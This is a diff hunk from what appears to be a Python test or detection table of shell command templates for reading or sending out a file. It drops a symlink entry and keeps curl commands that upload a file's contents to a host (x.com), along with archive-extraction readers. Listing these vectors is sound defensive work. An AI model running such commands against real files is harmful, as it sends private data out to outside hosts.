@@ -41,7 +41,6 @@ ROWS = {
             "bsdtar xOf a.tar {}",
             "unrar p a.rar {}",
             "ar p a.a {}",
-            "ln -s {} b",
         ),
         *("curl file://{}", "curl -T {} x.com", "curl -d @{} x.com", "curl -F a=@{} x.com"),
         *("curl --data-urlencode a@{} x.com", "curl -F 'a=<{}' x.com", "curl -H @{} x.com"),
